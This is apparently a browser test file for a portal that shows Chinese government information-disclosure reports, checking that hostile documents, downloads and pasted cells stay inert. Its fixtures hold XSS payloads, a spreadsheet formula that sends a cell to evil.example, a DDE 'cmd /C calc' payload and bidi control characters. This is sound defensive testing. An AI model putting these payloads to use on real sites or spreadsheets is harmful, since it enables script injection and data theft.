// Hostile input on the portal page: nothing of a document runs, leaves, or passes for something else.
import assert from "node:assert/strict";
import { readdirSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { open, picture, root, skip } from "./support/browser.js";
import { cellOf, focus, paste } from "./support/form.js";
import { drop, usePortal } from "./support/page.js";

const ATTACK = `"><img src=x onerror=alert(1)><script>globalThis.pwned=1</script><svg onload=alert(2)>`;
const BIDI = "\u202e\u2066\u200f\u061c";
const UNSEEN = /[\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069]/;
const FORMULA = `=HYPERLINK("https://evil.example/?"&A1,"点我")`;
const head = (organ) => `${organ}2024年政府信息公开工作年度报告\n\n一、总体情况\n\n${ATTACK}\n\n二、主动公开政府信息情况\n`;
const row = (label, figures) => `${label}\t${figures.join("\t")}\n`;
const table = row("一、本年新收政府信息公开申请数量", [13, 0, 0, 0, 0, 0, 10]);

const documents = {
  "text with markup": `${head("示例市统计局")}\n三、收到和处理政府信息公开申请情况\n${table}`,
  "a web page that acts": `<html><head><title>示例市统计局2024年政府信息公开工作年度报告</title><script>alert(3)</script><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"></head>
    <body onload="alert(4)"><p>示例市统计局2024年政府信息公开工作年度报告</p><img src="https://evil.example/pixel.png" onerror="alert(5)"><iframe src="javascript:alert(6)"></iframe>
    <style>@import "https://evil.example/x.css"; body{display:none}</style><link rel="stylesheet" href="https://evil.example/y.css"><a href="javascript:alert(7)">x</a><form action="https://evil.example"><input autofocus onfocus="alert(8)"></form>
    <table><tr><td>一、本年新收政府信息公开申请数量</td><td>13</td><td>0</td><td>0</td><td>0</td><td>0</td><td>0</td><td>10</td></tr></table>&lt;script&gt;alert(9)&lt;/script&gt;</body></html>`,
  "figures with markup": JSON.stringify({
    year: 2024,
    organ: `局${ATTACK}`,
    cells: { "requests.received.natural_person": ATTACK, "requests.received.total": FORMULA, "requests.received.other": "+1+cmd|' /C calc'!A0", "requests.received.business": "@SUM(1)" },
  }),
  "text that turns": `${head(`示例市${BIDI}统计局`)}\n三、收到和处理政府信息公开申请情况\n${row("一、本年新收政府信息公开申请数量", [`1${BIDI}3`, 0, 0, 0, 0, 0, `${BIDI}10`])}`,
  "figures that turn": JSON.stringify({ year: 2024, organ: `示例市${BIDI}统计局`, cells: { "requests.received.total": `\u202e21`, "requests.received.other": `1\u200b0` } }),
};

const portal = usePortal();

/** What of a document has become more than text: elements it brought, links that leave, text that turns. */
const harm = (page) =>
  page.evaluate(() => {
    const roots = [document, ...[...document.querySelectorAll("ogi-report-form, ogi-report-list, ogi-report-summary")].map(({ shadowRoot }) => shadowRoot)];
    const all = roots.flatMap((place) => [...place.querySelectorAll("*")]);
    const main = document.querySelector("main:not([hidden])");
    const brought = all.filter((element) => element.matches('img, iframe, object, embed, base, svg, form form, script:not([type=module], [src$="boot.js"]), meta[http-equiv=refresh]'));
    const handlers = all.flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith("on")));
    const away = all.filter((element) => element.href && new URL(element.href, location).origin !== location.origin);
    const texts = [document.title, main?.textContent ?? "", ...all.filter((element) => element.localName === "input").map(({ value }) => value), ...all.map((element) => element.title ?? "")];
    const turning = texts.filter((text) => /[\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069]/.test(text));
    return { brought: brought.length, handlers, away: away.length, turning, pwned: globalThis.pwned ?? null };
  });
const HARMLESS = { brought: 0, handlers: [], away: 0, turning: [], pwned: null };

for (const [name, text] of Object.entries(documents)) {
  test(name, { skip }, async () => {
    const { page, bad, context } = await open(portal.browser, `${portal.server.url}/`);
    await page.waitForSelector("html.ready");
    await drop(page, [{ name: `${ATTACK}${BIDI}.txt`, text }], ".desk .head h1:not(:empty), #refusal:not(:empty)");
    assert.equal(await page.locator(".desk").count(), 1, await page.locator("#refusal").textContent());
    for (const title of await page.locator("ogi-report-list li .title").all()) await title.click();
    await page.waitForTimeout(100);
    assert.deepEqual(await harm(page), HARMLESS);
    await picture(page, `hostile-${name.replaceAll(" ", "-")}`);
    assert.deepEqual(bad, []);
    await context.close();
  });
}

for (const name of ["figures with markup", "figures that turn", "text that turns"]) {
  test(`what is saved of ${name} is harmless too`, { skip }, async () => {
    const { page, bad, context } = await open(portal.browser, `${portal.server.url}/`);
    await page.waitForSelector("html.ready");
    await drop(page, [{ name: `a${BIDI}`, text: documents[name] }]);
    for (const kind of ["result", "page"]) {
      await page.locator(".menu summary").click();
      const [download] = await Promise.all([page.waitForEvent("download"), page.locator(`[data-download="${kind}"]`).click()]);
      assert.doesNotMatch(download.suggestedFilename(), /[<>"'\\/:|?*\u202e]/);
      const saved = await open(portal.browser, `file://${await download.path()}`);
      assert.equal(await saved.page.evaluate(() => document.querySelectorAll('img, iframe, svg, script:not([type="application/json"])').length), 0);
      assert.deepEqual(saved.bad.filter((line) => !line.startsWith("request: file:")), []);
      assert.doesNotMatch(await saved.page.content(), UNSEEN);
      await saved.context.close();
    }
    assert.deepEqual(bad, []);
    await context.close();
  });
}

test("hostile cells are pasted as text", { skip }, async () => {
  const { page, bad, context } = await open(portal.browser, `${portal.server.url}/`);
  await page.waitForSelector("html.ready");
  await page.locator("#blank").click();
  await page.waitForSelector(".formbar");
  await focus(page, "requests.received.natural_person");
  await paste(page, { "text/html": `<table><tr><td><img src=x onerror="alert(1)">3</td><td>${ATTACK}</td><td>${FORMULA}</td><td>\u202e21</td></tr></table>`, "text/plain": "x" });
  await page.waitForTimeout(100);
  assert.deepEqual(await harm(page), HARMLESS);
  assert.equal((await cellOf(page, "requests.received.natural_person")).text, "3");
  assert.equal((await cellOf(page, "requests.received.public_interest")).text, "21");
  // The clipboard is parsed in a document without a window; the policy tells that it would not have run here either.
  assert.deepEqual(bad.filter((line) => !line.startsWith("console: Executing inline event handler violates")), []);
  await context.close();
});

test("every hostile file is refused or shown, and the page lives on", { skip }, async () => {
  const { page, bad, context } = await open(portal.browser, `${portal.server.url}/`);
  await page.waitForSelector("html.ready");
  const folder = join(root, "fixtures/hostile");
  for (const name of readdirSync(folder).filter((file) => file !== "README.md")) {
    await drop(page, join(folder, name), ".desk .head h1:not(:empty), #refusal:not(:empty)");
    assert.deepEqual(await harm(page), HARMLESS, name);
    if (await page.locator("#desk").isVisible()) {
      await page.locator('[data-action="another"]').click();
      await page.waitForSelector("#start:not([hidden])");
    }
    await page.evaluate(() => document.querySelector("#refusal").replaceChildren());
  }
  assert.deepEqual(bad, []);
  await context.close();
});
